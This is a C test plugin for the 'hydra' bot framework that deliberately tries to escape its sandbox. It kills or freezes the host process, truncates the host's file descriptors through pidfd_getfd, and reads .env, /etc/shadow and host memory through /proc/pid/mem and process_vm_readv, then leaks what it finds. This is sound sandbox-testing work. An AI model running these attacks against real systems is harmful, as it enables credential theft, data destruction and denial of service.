/*
 * A hostile bot: it tries, in earnest, to escape its worker. Each attack is
 * the real thing (real system calls against the real host process, given
 * the host's pid and the address of a secret in its memory so that nothing
 * depends on the bot guessing), and when an attack works the bot leaves a
 * visible effect the test looks for: a file, a connection, a dead or
 * frozen host, a truncated database, the secret in the log or the state.
 *
 * signal.params:
 *   attack     io_uring, kill_host, stop_host, kill_group, prlimit_host,
 *              pidfd_getfd, read_secrets, fork, chmod, thread, write_file,
 *              connect, none
 *   when       create or tick (default tick: the second on_tick call)
 *   host_pid   the host's pid
 *   flag_path  a file the attack creates if it can write
 *   env_path   the host's .env
 *   state_dir  the host's state directory
 *   port       a TCP port on 127.0.0.1 the test listens on
 *   secret_at  the address of the secret in the host's memory (decimal)
 *   secret_len its length
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include <hydra/plugin.h>

struct hydra_bot {
    const hydra_host_api *api;
    hydra_host *host;
    char attack[32], when[16];
    char flag_path[512], env_path[512], state_dir[512];
    int64_t host_pid, port, secret_at, secret_len, calls;
    char symbol[48];
};

/* ---- leaking: whatever was read goes out every way a bot has ---------------------- */

static void leak(hydra_bot *b, const char *what, const unsigned char *data, size_t n)
{
    char hex[2048], rev[1024];
    size_t i;
    if (n > 500)
        n = 500;
    for (i = 0; i < n; i++)
        snprintf(hex + 2 * i, 3, "%02x", data[i]);
    hex[2 * n] = '\0';
    for (i = 0; i < n; i++)
        rev[i] = (char)data[n - 1 - i];
    rev[n] = '\0';
    b->api->log(b->host, HYDRA_LOG_INFO, what, hex);
    b->api->log(b->host, HYDRA_LOG_INFO, what, rev);
    if (HYDRA_HAS(b->api, state_set)) {
        b->api->state_set(b->host, "loot_hex", hex);
        b->api->state_set(b->host, "loot_rev", rev);
    }
    /* And to a file, in case writing works. */
    int fd = open(b->flag_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        ssize_t unused = write(fd, hex, strlen(hex));
        (void)unused;
        close(fd);
    }
}

static void leak_file(hydra_bot *b, const char *path)
{
    unsigned char buf[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n > 0)
        leak(b, "loot_file", buf, (size_t)n);
}

/* ---- io_uring, by hand: one submission, one completion ------------------------------ */

typedef struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
} ring;

static int ring_open(ring *r)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    r->fd = (int)syscall(__NR_io_uring_setup, 8, &p);
    if (r->fd < 0)
        return -1;
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_CQ_RING);
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
        return -1;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

static int ring_run(ring *r, const struct io_uring_sqe *sqe)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *sqe;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -1;
    unsigned head = *r->cq_head;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static void attack_io_uring(hydra_bot *b)
{
    ring r;
    struct io_uring_sqe sqe;
    if (ring_open(&r) != 0)
        return;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_OPENAT;
    sqe.fd = AT_FDCWD;
    sqe.addr = (uintptr_t)b->flag_path;
    sqe.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
    sqe.len = 0644;
    int fd = ring_run(&r, &sqe);
    if (fd >= 0) {
        memset(&sqe, 0, sizeof sqe);
        sqe.opcode = IORING_OP_WRITE;
        sqe.fd = fd;
        sqe.addr = (uintptr_t) "escaped via io_uring\n";
        sqe.len = 21;
        ring_run(&r, &sqe);
    }
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_SOCKET;
    sqe.fd = AF_INET;
    sqe.off = SOCK_STREAM;
    int s = ring_run(&r, &sqe);
    if (s >= 0) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)b->port)};
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        memset(&sqe, 0, sizeof sqe);
        sqe.opcode = IORING_OP_CONNECT;
        sqe.fd = s;
        sqe.addr = (uintptr_t)&a;
        sqe.off = sizeof a;
        ring_run(&r, &sqe);
    }
}

/* ---- the rest ------------------------------------------------------------------------ */

static void attack_connect(hydra_bot *b)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)b->port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0)
        connect(s, (struct sockaddr *)&a, sizeof a);
}

static void attack_write_file(hydra_bot *b)
{
    int fd = open(b->flag_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0)
        close(fd);
}

static void attack_pidfd_getfd(hydra_bot *b)
{
    int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)b->host_pid, 0);
    if (pidfd < 0)
        return;
    for (int fd = 3; fd < 256; fd++) {
        int mine = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (mine >= 0) {
            ftruncate(mine, 0);
            close(mine);
        }
    }
}

static void attack_read_secrets(hydra_bot *b)
{
    char path[128];
    unsigned char buf[512];
    size_t n = b->secret_len > 0 && b->secret_len < (int64_t)sizeof buf ? (size_t)b->secret_len
                                                                        : 64;
    leak_file(b, b->env_path);
    snprintf(path, sizeof path, "/proc/%lld/environ", (long long)b->host_pid);
    leak_file(b, path);
    leak_file(b, "/etc/shadow");
    /* The host's heap, through /proc/<pid>/mem and through process_vm_readv. */
    snprintf(path, sizeof path, "/proc/%lld/mem", (long long)b->host_pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && pread(fd, buf, n, (off_t)b->secret_at) == (ssize_t)n)
        leak(b, "loot_mem", buf, n);
    if (fd >= 0)
        close(fd);
    struct iovec local = {buf, n}, remote = {(void *)(uintptr_t)b->secret_at, n};
    if (syscall(SYS_process_vm_readv, (pid_t)b->host_pid, &local, 1, &remote, 1, 0) ==
        (long)n)
        leak(b, "loot_vm", buf, n);
}

static void attack_fork(void)
{
    for (int i = 0; i < 3; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            setsid();
            prctl(PR_SET_NAME, "hydra-hostile-c", 0, 0, 0);
            for (;;)
                sleep(60);
        }
    }
}

static void *thread_body(void *arg)
{
    hydra_bot *b = arg;
    /* Waits until the bot is long created, then tries again and again. */
    for (int i = 0; i < 50; i++) {
        usleep(20000);
        attack_write_file(b);
        attack_connect(b);
    }
    return NULL;
}

static void attack(hydra_bot *b)
{
    const char *a = b->attack;
    if (strcmp(a, "io_uring") == 0) {
        attack_io_uring(b);
    } else if (strcmp(a, "kill_host") == 0) {
        kill((pid_t)b->host_pid, SIGKILL);
        kill(getppid(), SIGKILL);
    } else if (strcmp(a, "stop_host") == 0) {
        kill((pid_t)b->host_pid, SIGSTOP);
        kill(getppid(), SIGSTOP);
    } else if (strcmp(a, "kill_group") == 0) {
        kill(0, SIGKILL);
        kill(-1, SIGKILL);
    } else if (strcmp(a, "prlimit_host") == 0) {
        struct rlimit zero = {0, 0};
        prlimit((pid_t)b->host_pid, RLIMIT_FSIZE, &zero, NULL);
        prlimit((pid_t)b->host_pid, RLIMIT_NOFILE, &zero, NULL);
    } else if (strcmp(a, "pidfd_getfd") == 0) {
        attack_pidfd_getfd(b);
    } else if (strcmp(a, "read_secrets") == 0) {
        attack_read_secrets(b);
    } else if (strcmp(a, "fork") == 0) {
        attack_fork();
    } else if (strcmp(a, "chmod") == 0) {
        chmod(b->env_path, 0666);
        chmod(b->state_dir, 0777);
    } else if (strcmp(a, "thread") == 0) {
        pthread_t t;
        if (pthread_create(&t, NULL, thread_body, b) == 0)
            pthread_detach(t);
    } else if (strcmp(a, "write_file") == 0) {
        attack_write_file(b);
    } else if (strcmp(a, "connect") == 0) {
        attack_connect(b);
    }
}

static void param_str(hydra_bot *b, const char *key, char *out, size_t outsz, const char *dflt)
{
    if (b->api->param_string(b->host, key, out, outsz) != 0)
        snprintf(out, outsz, "%s", dflt);
}

static int64_t param_i64(hydra_bot *b, const char *key)
{
    int64_t v = 0;
    b->api->param_int(b->host, key, &v);
    return v;
}

static int h_create(const hydra_host_api *api, hydra_host *host, const hydra_bot_config *cfg,
                    hydra_bot **out)
{
    hydra_bot *b = calloc(1, sizeof *b);
    *out = NULL;
    if (b == NULL || cfg->n_symbols < 1) {
        free(b);
        return HYDRA_BOT_BAD_CONFIG;
    }
    b->api = api;
    b->host = host;
    param_str(b, "attack", b->attack, sizeof b->attack, "none");
    param_str(b, "when", b->when, sizeof b->when, "tick");
    param_str(b, "flag_path", b->flag_path, sizeof b->flag_path, "/tmp/hydra-hostile-flag");
    param_str(b, "env_path", b->env_path, sizeof b->env_path, ".env");
    param_str(b, "state_dir", b->state_dir, sizeof b->state_dir, "state");
    b->host_pid = param_i64(b, "host_pid");
    b->port = param_i64(b, "port");
    b->secret_at = param_i64(b, "secret_at");
    b->secret_len = param_i64(b, "secret_len");
    snprintf(b->symbol, sizeof b->symbol, "%s", cfg->symbols[0]);
    if (strcmp(b->when, "create") == 0)
        attack(b);
    *out = b;
    return HYDRA_BOT_OK;
}

static void h_destroy(hydra_bot *b)
{
    free(b);
}

static int h_manage(hydra_bot *b, const hydra_snapshot *snap, hydra_intent_buf *out)
{
    (void)b, (void)snap, (void)out;
    return HYDRA_BOT_OK;
}

static int h_on_tick(hydra_bot *b, const hydra_snapshot *snap, hydra_intent_buf *out)
{
    (void)snap, (void)out;
    if (++b->calls == 2 && strcmp(b->when, "tick") == 0)
        attack(b);
    return HYDRA_BOT_OK;
}

HYDRA_EXPORT const hydra_plugin hydra_plugin_entry = {
    .abi = HYDRA_ABI_VERSION_INIT,
    .struct_size = sizeof(hydra_plugin),
    .name = "hostile",
    .version = "1.0.0",
    .description = "Test bot that tries to escape its worker",
    .asset_classes = HYDRA_ASSET_EQUITY,
    .create = h_create,
    .destroy = h_destroy,
    .manage = h_manage,
    .on_tick = h_on_tick,
};
